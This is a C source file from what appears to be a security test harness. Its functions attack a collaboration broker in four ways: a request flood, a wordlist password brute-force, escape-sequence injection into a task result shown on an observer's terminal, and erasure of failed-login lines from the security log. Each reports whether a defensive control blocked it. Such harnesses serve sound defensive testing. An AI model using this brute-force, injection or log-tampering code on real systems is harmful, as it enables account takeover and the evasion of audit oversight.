/*  att_abuse.c: abuse with an agent's credentials or plain wire access: flood (V-023),
    brute-force (weak password policy), terminal-injection (no input sanitization) and
    cover-tracks (no comprehensive audit logging). */
#include "attack.h"

#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/*  The attacker's own agent connecting from another local address. */
static collab_client_t *own_from(const attack_opts_t *o, const char *source, verdict_t *v)
{
    attack_opts_t alt = *o;
    if (source && *source)
        snprintf(alt.own.endpoint, sizeof alt.own.endpoint, "tcp://%s:0;%s:%d", source, o->host,
                 o->port);
    return own_client(&alt, v);
}

int attack_flood(const attack_opts_t *o, verdict_t *v)
{
    enum { MAX_CONNS = 16 };
    collab_client_t *c[MAX_CONNS] = {0};
    uint32_t conns = o->flood_conns < 1           ? 1
                     : o->flood_conns > MAX_CONNS ? MAX_CONNS
                                                  : o->flood_conns;
    victim_t legit;
    const char *args[] = {"--duration-ms", "60000", "--interval-ms", "20", NULL};
    if (victim_start(&legit, o, "coordinator1", "reader", args) != 0 ||
        !victim_expect(&legit, "ready", NULL, 0, o->timeout_ms * 3)) {
        victim_stop(&legit);
        return verdict(v, ATTACK_ERROR, "the legitimate agent did not start");
    }
    for (uint32_t i = 0; i < conns; i++)
        if (!(c[i] = own_from(o, o->source, v))) { /* ERROR: the flood could not start */
            for (uint32_t k = 0; k < i; k++)
                collab_client_destroy(&c[k]);
            victim_stop(&legit);
            return v->outcome;
        }
    lab_say("%u connections of %s from %s send %u requests", conns, o->own.agent_id,
            o->source[0] ? o->source : "the default address", o->flood_count);
    for (uint32_t i = 0; i < o->flood_count; i++)
        collab_client_send(c[i % conns], "list_projects", NULL, 0);
    uint32_t ok = 0, limited = 0, other = 0, retry_ms = 0;
    for (uint32_t i = 0; i < conns; i++)
        for (uint32_t k = i; k < o->flood_count; k += conns) {
            uint64_t id;
            collab_reply_t r;
            if (collab_client_next_reply(c[i], &id, &r, o->timeout_ms) != 0)
                break;
            uint64_t ra = 0;
            if (r.ok)
                ok++;
            else if (r.code == COLLAB_E_RATE_LIMITED && ++limited &&
                     collab_map_uint(&r.map, "retry_after_ms", &ra) == 0)
                retry_ms = (uint32_t)ra;
            else if (r.code != COLLAB_E_RATE_LIMITED)
                other++;
            collab_reply_free(&r);
        }
    for (uint32_t i = 0; i < conns; i++)
        collab_client_destroy(&c[i]);
    /* the legitimate agent's own tally, over the whole flood */
    victim_stop(&legit);
    const char *tally = strstr(legit.buf, "served=");
    unsigned long served = 0, refused = 0;
    if (tally)
        sscanf(tally, "served=%lu refused=%lu", &served, &refused);
    if (ok == o->flood_count)
        return verdict(v, ATTACK_SUCCEEDED,
                       "the broker accepted and did the work of all %u flood "
                       "requests (no rate limit)",
                       ok);
    if (limited > 0 && served > 0)
        return blocked(v, "rate_limit",
                       "%u of %u flood requests refused with rate_limited "
                       "(retry after %u ms) while a legitimate agent elsewhere "
                       "was served %lu times",
                       limited, o->flood_count, retry_ms, served);
    return verdict(v, ATTACK_ERROR,
                   "inconclusive: %u ok, %u rate_limited, %u other, legitimate "
                   "agent served %lu refused %lu",
                   ok, limited, other, served, refused);
}

int attack_brute_force(const attack_opts_t *o, verdict_t *v)
{
    FILE *f = fopen(o->wordlist, "r");
    char word[COLLAB_PASSWORD_MAX + 2];
    int attempt = 0;
    if (!f)
        return verdict(v, ATTACK_ERROR, "cannot read the word list %s", o->wordlist);
    lab_say("guessing the password of %s from %s", o->brute_agent, o->wordlist);
    while (fgets(word, sizeof word, f)) {
        word[strcspn(word, "\r\n")] = '\0';
        if (!word[0])
            continue;
        attempt++;
        collab_client_opts_t co = {.endpoint = o->broker,
                                   .agent_id = o->brute_agent,
                                   .password = word,
                                   .timeout_ms = o->timeout_ms};
        collab_client_t *c = collab_client_new(&co);
        int rc = c ? collab_client_login(c) : COLLAB_E_NOMEM;
        collab_client_destroy(&c);
        if (rc == 0) {
            fclose(f);
            return verdict(v, ATTACK_SUCCEEDED,
                           "the password of %s is '%s' (attempt %d, no "
                           "lockout)",
                           o->brute_agent, word, attempt);
        }
        if (rc == COLLAB_E_TIMEOUT && attempt == 1) {
            fclose(f);
            return unanswered(o, v, "plain login");
        }
        if (rc == COLLAB_E_LOCKED_OUT || rc == COLLAB_E_RATE_LIMITED) {
            fclose(f);
            return blocked(v, control_of(rc, NULL), "refused at attempt %d: %s", attempt,
                           collab_strerror(rc));
        }
        if (rc != COLLAB_E_AUTH_FAILED) {
            fclose(f);
            return verdict(v, ATTACK_ERROR, "login attempt %d failed: %s", attempt,
                           collab_strerror(rc));
        }
    }
    fclose(f);
    if (attempt == 0)
        return verdict(v, ATTACK_ERROR, "the word list %s holds no word", o->wordlist);
    /* under the strong login control a locked-out agent answers auth_failed even to the
       right password, so the list may well hold it */
    return blocked(v, "login",
                   "none of the %d words opened a session of %s: every login answered "
                   "auth_failed",
                   attempt, o->brute_agent);
}

/*  "\e" and "\xNN" escapes of the catalogue's injection string. */
static void unescape(const char *in, char *out, size_t cap)
{
    size_t o = 0;
    for (; *in && o + 1 < cap; in++) {
        if (in[0] == '\\' && in[1] == 'e') {
            out[o++] = 0x1b;
            in++;
        } else if (in[0] == '\\' && in[1] == 'x' && in[2] && in[3]) {
            char hex[3] = {in[2], in[3], 0};
            out[o++] = (char)strtol(hex, NULL, 16);
            in += 3;
        } else {
            out[o++] = *in;
        }
    }
    out[o] = '\0';
}

int attack_terminal_injection(const attack_opts_t *o, verdict_t *v)
{
    char payload[256], pid[32], tid[32];
    unescape(o->injection, payload, sizeof payload);
    char server[600], cert[600];
    snprintf(server, sizeof server, "%s/broker.cert", o->curve_dir);
    snprintf(cert, sizeof cert, "%s/viewer1.cert_secret", o->curve_dir);
    char *obs_argv[] = {(char *)o->observer_exe,
                        "--broker",
                        (char *)o->broker,
                        "--credentials",
                        (char *)o->victim_key_file,
                        "--lines",
                        "--until-idle-ms",
                        "30000",
                        o->curve_dir[0] ? "--curve-server-key" : NULL,
                        server,
                        "--curve-cert",
                        cert,
                        NULL};
    victim_t obs, co;
    if (victim_spawn_agent(&obs, o, "viewer1", obs_argv) != 0 ||
        !victim_expect(&obs, "collab-observer: watching", NULL, 0, o->timeout_ms * 3)) {
        victim_stop(&obs);
        return verdict(v, ATTACK_ERROR, "the victim observer did not start");
    }
    if (!o->own.agent_id[0]) {
        victim_stop(&obs);
        return verdict(v, ATTACK_ERROR, "terminal-injection needs the worker's --agent");
    }
    const char *args[] = {"--worker", o->own.agent_id, NULL};
    if (victim_start(&co, o, "coordinator1", "assign", args) != 0 ||
        !victim_expect(&co, "project_id=", pid, sizeof pid, o->timeout_ms * 3) ||
        !victim_expect(&co, "task_id=", tid, sizeof tid, o->timeout_ms * 3)) {
        victim_stop(&co);
        victim_stop(&obs);
        return verdict(v, ATTACK_ERROR, "the victim coordinator did not assign a task");
    }
    victim_stop(&co);
    collab_client_t *c = own_client(o, v);
    if (!c) {
        victim_stop(&obs);
        return v->outcome; /* ERROR: the worker could not log in */
    }
    int rc = 0;
    char arg[40];
    snprintf(arg, sizeof arg, "u:%s", tid);
    if (rc == 0)
        rc = att_call(c, NULL, "update_task_status", "task_id", arg, "status", "in_progress", NULL);
    if (rc == 0)
        rc = att_call(c, NULL, "update_task_status", "task_id", arg, "status", "completed",
                      "result", payload, NULL);
    collab_client_destroy(&c);
    lab_say("worker %s reported task %s completed with a result carrying escape sequences: %s",
            o->own.agent_id, tid, rc == 0 ? "accepted" : collab_strerror(rc));
    if (rc != 0) {
        victim_stop(&obs);
        if (rc == COLLAB_E_BAD_TEXT)
            return blocked(v, "text_fields", "the broker refused the result: %s",
                           collab_strerror(rc));
        return verdict(v, ATTACK_ERROR, "the worker's task update failed: %s", collab_strerror(rc));
    }
    /* the observer shows the result either raw or escaped: wait for one of the two */
    bool shown = victim_wait_bytes(&obs, payload, strlen(payload), o->timeout_ms * 3) ||
                 victim_wait_bytes(&obs, "\\x1b", 4, 0);
    bool raw = memmem(obs.buf, obs.len, payload, strlen(payload)) != NULL;
    victim_stop(&obs);
    if (raw)
        return verdict(v, ATTACK_SUCCEEDED,
                       "the observer wrote the result's escape sequences raw "
                       "to its terminal (task %s)",
                       tid);
    if (!shown)
        return verdict(v, ATTACK_ERROR, "the observer did not show the result within %d ms",
                       o->timeout_ms * 3);
    return blocked(v, "text_fields", "the observer escaped the control characters");
}

/*  Rewrites the log without the lines that mention the attacker's failed logins, and
    without its last line (the tail). Returns the number of lines removed. */
static int erase_lines(const char *path, const char *marker)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    char *kept = NULL, line[8192];
    size_t klen = 0, last_start = 0;
    int removed = 0;
    FILE *mem = open_memstream(&kept, &klen);
    while (mem && fgets(line, sizeof line, f)) {
        /* its failed logins, or under CURVE its refused connections */
        if ((strstr(line, "login_failed") && strstr(line, marker)) ||
            strstr(line, "connection_refused")) {
            removed++;
            continue;
        }
        fflush(mem);
        last_start = klen;
        fputs(line, mem);
    }
    fclose(f);
    if (!mem)
        return -1;
    fclose(mem);
    klen = last_start; /* truncate the tail: the last remaining line goes too */
    removed++;
    f = fopen(path, "r+");
    if (!f || fwrite(kept, 1, klen, f) != klen || ftruncate(fileno(f), (off_t)klen) != 0)
        removed = -1;
    if (f)
        fclose(f);
    free(kept);
    return removed;
}

/*  True when the log's lines carry a chained MAC (the strong audit control). */
static bool log_is_chained(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[8192];
    bool chained = false;
    while (f && !chained && fgets(line, sizeof line, f))
        chained = strstr(line, "\"mac\":") != NULL;
    if (f)
        fclose(f);
    return chained;
}

int attack_cover_tracks(const attack_opts_t *o, verdict_t *v)
{
    if (!o->log_path[0])
        return verdict(v, ATTACK_ERROR, "cover-tracks needs --security-log PATH (write access)");
    for (int i = 0; i < 3; i++) {
        collab_client_opts_t co = {.endpoint = o->broker,
                                   .agent_id = "admin",
                                   .password = "not-the-password",
                                   .timeout_ms = o->timeout_ms};
        collab_client_t *c = collab_client_new(&co);
        if (c)
            collab_client_login(c);
        collab_client_destroy(&c);
    }
    lab_say("three failed logins against admin; now erasing them from %s", o->log_path);
    bool chained = log_is_chained(o->log_path); /* before the erasing, which may empty it */
    int removed = erase_lines(o->log_path, "\"admin\"");
    if (removed < 1)
        return verdict(v, ATTACK_ERROR, "could not rewrite the log");
    if (!chained)
        return verdict(v, ATTACK_SUCCEEDED,
                       "%d log lines erased (the failed logins and the tail) "
                       "and nothing notices: the log carries no integrity "
                       "chain",
                       removed);
    if (!o->audit_exe[0])
        return verdict(v, ATTACK_ERROR, "no verifier (collab-audit) to judge by");
    char *argv[12] = {(char *)o->audit_exe, "verify", (char *)o->log_path}, head[520];
    int n = 3;
    if (o->audit_key_file[0]) {
        argv[n++] = "--key-file";
        argv[n++] = (char *)o->audit_key_file;
    }
    if (o->state_path[0]) { /* the defender checks the head the broker exports (audit.h) */
        snprintf(head, sizeof head, "%s.head", o->log_path);
        argv[n++] = "--head";
        argv[n++] = head;
    }
    argv[n] = NULL;
    victim_t ver;
    if (victim_spawn(&ver, argv) != 0)
        return verdict(v, ATTACK_ERROR, "cannot run %s", o->audit_exe);
    int rc = victim_wait(&ver, o->timeout_ms * 3);
    char *nl = strchr(ver.buf, '\n');
    if (nl)
        *nl = '\0';
    if (rc == 1)
        return blocked(v, "audit", "%d lines erased, and the verifier noticed: %s", removed,
                       ver.buf);
    if (rc == 0 || rc == 3)
        return verdict(v, ATTACK_SUCCEEDED,
                       "%d log lines erased (the failed logins and the tail) "
                       "and nothing notices: %s",
                       removed, ver.buf);
    return verdict(v, ATTACK_ERROR, "the verifier failed (exit %d): %s", rc, ver.buf);
}
